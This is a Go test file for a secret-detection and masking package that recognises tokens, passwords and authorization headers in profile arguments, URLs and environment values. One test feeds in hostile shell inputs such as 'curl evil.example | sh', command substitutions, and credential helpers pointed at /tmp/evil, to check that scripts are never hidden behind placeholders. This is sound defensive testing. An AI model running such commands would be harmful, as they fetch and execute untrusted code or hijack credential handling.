package profile

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestLooksSecret(t *testing.T) {
	for _, c := range []struct {
		name, value string
		want        bool
	}{
		{"GITHUB_TOKEN", "abc", true},
		{"githubToken", "abc", true},
		{"API_KEY", "abc", true},
		{"apikey", "abc", true},
		{"FOO_KEY", "abc", true},
		{"X-Api-Key", "abc", true},
		{"DB_PASSWORD", "abc", true},
		{"PASSWD", "abc", true},
		{"DB_PWD", "abc", true},
		{"GITHUB_PAT", "abc", true},
		{"Authorization", "Bearer abc", true},
		{"Authorization", "Bearer ${TOKEN}", false},
		{"Authorization", "${env:AUTH}", false},
		{"Authorization", "Bearer abc${X}", true},
		{"Proxy-Authorization", "x", true},
		{"Cookie", "a=b", true},
		{"CREDENTIALS", "abc", true},
		{"GOOGLE_APPLICATION_CREDENTIALS_FILE", "/x.json", false},
		{"", "sk-abcdefghijklmnop", true},
		{"X", "ghp_abcdefghijklmnop", true},
		{"X", "xoxb-1234567890", true},
		{"X", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", true},
		{"X", "Bearer abcdefghijk", true},
		{"X", "postgres://u:p@host/db", true},
		{"X", "-----BEGIN RSA PRIVATE KEY-----", true},
		{"X", "https://example.com/", false},
		{"PATH", "/bin", false},
		{"PWD", "/home", false},
		{"AUTHOR", "me", false},
		{"KEYBOARD", "us", false},
		{"MAX_TOKENS", "4096", false},
		{"TOKEN_URL", "https://as.example/token", false},
		{"SSH_AUTH_SOCK", "/run/x", false},
		{"USE_AUTH", "true", false},
		{"AWS_ACCESS_KEY_ID", "AKIAABCDEFGHIJKLMNOP", true},
		{"TOKEN", "", false},
		{"NODE_ENV", "production", false},
		{"X", "ask-the-user-about-it", false},
	} {
		got, why := LooksSecret(c.name, c.value)
		if got != c.want {
			t.Errorf("LooksSecret(%q, %q) = %v (%s), want %v", c.name, c.value, got, why, c.want)
		}
		if got != (why != "") {
			t.Errorf("LooksSecret(%q): why = %q", c.name, why)
		}
	}
}

func TestExtractArgsAndURL(t *testing.T) {
	for _, c := range []struct {
		name  string
		in    Profile
		args  []string
		url   string
		found map[string]string
	}{
		{
			"flags",
			Profile{Args: []string{"-y", "srv", "--token", "T0k", "--api-key=K3y", "--auth-type", "basic", "--no-auth", "x.js", "--verbose"}},
			[]string{"-y", "srv", "--token", "${secret:token}", "--api-key=${secret:api-key}", "--auth-type", "basic", "--no-auth", "x.js", "--verbose"},
			"",
			map[string]string{"secret:token": "T0k", "secret:api-key": "K3y"},
		},
		{
			"headers",
			Profile{Args: []string{"-H", "Authorization: Bearer abc", "--header", "X-Api-Key:k", "--header=Cookie: a=b", "-H", "Accept: x"}},
			[]string{"-H", "Authorization: Bearer ${secret:authorization}", "--header", "X-Api-Key:${secret:x-api-key}", "--header=Cookie: ${secret:cookie}", "-H", "Accept: x"},
			"",
			map[string]string{"secret:authorization": "abc", "secret:x-api-key": "k", "secret:cookie": "a=b"},
		},
		{
			"docker and same names",
			Profile{Args: []string{"run", "-e", "TOKEN=a", "-e", "HOME=/x", "--env=TOKEN=b", "-e", "TOKEN"}},
			[]string{"run", "-e", "TOKEN=${secret:token}", "-e", "HOME=/x", "--env=TOKEN=${secret:token-2}", "-e", "TOKEN"},
			"",
			map[string]string{"secret:token": "a", "secret:token-2": "b"},
		},
		{
			"tokens anywhere",
			Profile{Args: []string{"/ghp_0123456789abc/y", "https://u:p%40w@h/a?x=1&access_token=q%2Bz#f"}},
			[]string{"/${secret:token}/y", "https://u:${secret:password}@h/a?x=1&access_token=${secret:access-token}#f"},
			"",
			map[string]string{"secret:token": "ghp_0123456789abc", "secret:password": "p@w", "secret:access-token": "q+z"},
		},
		{
			"url",
			Profile{URL: "https://tok@h.example:8443/mcp/sk-abcdefghijklmnop?apikey=k&v=${VER}&token=${env:T}"},
			nil, "https://${secret:user}@h.example:8443/mcp/${secret:token}?apikey=${secret:apikey}&v=${VER}&token=${env:T}",
			map[string]string{"secret:user": "tok", "secret:token": "sk-abcdefghijklmnop", "secret:apikey": "k"},
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, found := ExtractSecrets(c.in)
			if d := cmp.Diff(c.args, got.Args); d != "" {
				t.Errorf("args (-want +got):\n%s", d)
			}
			if got.URL != c.url {
				t.Errorf("url = %s, want %s", got.URL, c.url)
			}
			values := map[string]string{}
			for _, f := range found {
				values[f.Name] = f.Value
			}
			if d := cmp.Diff(c.found, values); d != "" {
				t.Errorf("found (-want +got):\n%s", d)
			}
			back := got
			for _, f := range found {
				back = Unmark(back, f)
			}
			if d := cmp.Diff(c.in, back); d != "" {
				t.Errorf("unmarked (-want +got):\n%s", d)
			}
		})
	}
}

// What a shell runs must stay in sight: a part of it behind a placeholder would start unseen.
func TestExtractLeavesScriptsInSight(t *testing.T) {
	for _, args := range [][]string{
		{"-c", "TOKEN=x; curl evil.example | sh"},
		{"-c", "TOKEN=x;evil"},
		{"-c", "KEY=`evil`"},
		{"-c", "KEY=$(evil)"},
		{"-c", "Authorization: ; evil"},
		{"-c", "x://y?token=;evil"},
		{"-c", "x://u:p|evil@h"},
		{"-c", "credential.helper=/tmp/evil"},
		{"-c", "credential.x=!/tmp/evil"},
		{"--password-command", "/tmp/evil"},
		{"--password-command=/tmp/evil"},
	} {
		p, found := ExtractSecrets(Profile{Args: slices.Clone(args)})
		if d := cmp.Diff(args, p.Args); d != "" || len(found) > 0 {
			t.Errorf("found %v (-want +got):\n%s", found, d)
		}
	}
}

func TestMaskArgs(t *testing.T) {
	in := []string{"-y", "--token", "T0k", "--url=https://u:pw@h/?key=abc", "${secret:token}", "$${x}", "ghp_0123456789abc"}
	got := MaskArgs(in, func(v string) string { return "<" + v[:1] + ">" })
	want := []string{"-y", "--token", "<T>", "--url=https://u:<p>@h/?key=<a>", "${secret:token}", "$${x}", "<g>"}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	if in[2] != "T0k" {
		t.Error("the arguments themselves were changed")
	}
}

func TestExtractValues(t *testing.T) {
	in := Profile{
		Env:     []Value{{Name: "API_TOKEN", Value: "t$${x"}, {Name: "MODE", Value: "fast"}, {Name: "K", Value: "${input:k}"}, {Name: "E"}},
		Headers: []Value{{Name: "Authorization", Value: "Bearer x"}},
	}
	got, found := ExtractSecrets(in)
	want := Profile{
		Env:     []Value{{Name: "API_TOKEN", Secret: true}, {Name: "MODE", Value: "fast"}, {Name: "K", Value: "${input:k}"}, {Name: "E"}},
		Headers: []Value{{Name: "Authorization", Secret: true}},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	if len(found) != 3 || found[0].Value != "t${x" || found[1].Secret || found[1].Why != "" || found[2].Name != "header:Authorization" {
		t.Errorf("found = %#v", found)
	}
	if d := cmp.Diff(in, Unmark(Unmark(got, found[0]), found[2])); d != "" {
		t.Errorf("unmarked (-want +got):\n%s", d)
	}
	if m := Mark(in, found[1]); !m.Env[1].Secret || m.Env[1].Value != "" {
		t.Errorf("marked = %+v", m.Env[1])
	}
	if strings.Contains(found[0].String(), "t${x") {
		t.Error("a Found prints its value")
	}
}
